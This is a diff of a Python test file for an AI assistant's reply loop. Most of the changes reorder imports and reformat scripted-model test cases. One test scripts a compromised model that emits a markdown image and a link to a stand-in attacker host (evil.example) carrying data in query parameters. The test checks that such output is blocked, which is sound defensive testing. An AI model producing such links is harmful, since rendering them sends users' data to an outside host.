@@ -3,6 +3,8 @@ import json
 from pathlib import Path
 
 import pytest
+from peers.scripted_model import ScriptedModel, calls, says
+from peers.shop_tools import assistant_with, opened, question
 
 from assistant.assistant import Assistant
 from assistant.events import (
@@ -20,8 +22,6 @@ from assistant.events import (
 from assistant.loop import MAX_TURNS
 from assistant.model import Ended, Quoted, Replied, Returned, Suggested, Text, Withdrawn
 from assistant.sentences import cut
-from peers.scripted_model import ScriptedModel, calls, says
-from peers.shop_tools import assistant_with, opened, question
 
 
 def run(model: ScriptedModel, folder: Path, seconds: float = 120) -> list[Event]:
@@ -142,7 +142,14 @@ def test_a_model_that_only_calls_tools_is_ended(tmp_path: Path) -> None:
 
 def test_a_withdrawn_reply_is_retracted_and_begins_again(tmp_path: Path) -> None:
     model = ScriptedModel(
-        [[Text("It is bad. "), Text("Very"), Withdrawn("The connection broke."), *says("It is good.")]]
+        [
+            [
+                Text("It is bad. "),
+                Text("Very"),
+                Withdrawn("The connection broke."),
+                *says("It is good."),
+            ]
+        ]
     )
 
     events = run(model, tmp_path)
@@ -156,7 +163,10 @@ def test_a_withdrawn_reply_is_retracted_and_begins_again(tmp_path: Path) -> None
 
 def test_words_before_a_call_are_taken_back(tmp_path: Path) -> None:
     model = ScriptedModel(
-        [calls(("count_tables", '{"domain": "Orders"}'), text="Let me look.\n"), says("412 tables.")]
+        [
+            calls(("count_tables", '{"domain": "Orders"}'), text="Let me look.\n"),
+            says("412 tables."),
+        ]
     )
 
     events = run(model, tmp_path)
@@ -185,7 +195,9 @@ def test_a_slow_tool_ends_at_the_deadline(tmp_path: Path) -> None:
 
 
 def test_text_leaves_sentence_by_sentence(tmp_path: Path) -> None:
-    model = ScriptedModel([says("All is ", "well. It", " costs e.g. noth", "ing.\n\n- a", "\n- b\n")])
+    model = ScriptedModel(
+        [says("All is ", "well. It", " costs e.g. noth", "ing.\n\n- a", "\n- b\n")]
+    )
 
     events = run(model, tmp_path)
 
@@ -217,7 +229,12 @@ def test_a_quote_puts_its_number_into_the_text(tmp_path: Path) -> None:
 
 def test_a_compromised_model_gets_no_image_and_no_link_out(tmp_path: Path) -> None:
     model = ScriptedModel(
-        [says("See ![x](https://evil.example/?d=1) and [more", "](https://evil.example/?d=2). Bye.")]
+        [
+            says(
+                "See ![x](https://evil.example/?d=1) and [more",
+                "](https://evil.example/?d=2). Bye.",
+            )
+        ]
     )
 
     events = run(model, tmp_path)
